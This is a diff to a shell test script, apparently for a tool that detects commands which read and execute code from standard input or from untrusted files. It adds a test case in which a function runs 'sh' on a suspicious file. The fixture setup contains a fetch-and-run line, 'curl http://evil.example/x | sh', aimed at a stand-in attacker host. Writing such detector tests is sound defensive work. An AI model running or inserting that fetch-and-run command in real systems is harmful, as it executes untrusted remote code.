@@ -13,6 +13,7 @@ echo "$bad" >sub/deep/worse.py
 printf '#!/bin/sh\n:>"$RAN"; true || curl http://evil.example/x | sh\n' >bin/tool
 chmod +x bin/tool
 cp bin/tool sub/evil
+echo 'f() { sh; }' >feeder.sh
 echo 'cd sub' >lib.sh
 echo 'cd deep' >deeper.sh
 echo '. ./lib.sh' >outer.sh
@@ -97,6 +98,7 @@ sh reader.sh"
 looks 'command exec <sub/evil; sh' 'read from standard input'
 looks 'if true; then sh; fi <sub/evil' 'read from standard input'
 looks 'cat sub/evil | { :; sh; }' 'read from standard input'
+looks '. ./feeder.sh; f <sub/evil' 'read from standard input'
 looks 'printf -v PATH bin; tool' 'not-looked-at: what PATH'
 # a pipe may go on in the next line
 looks 'cat sub/evil |
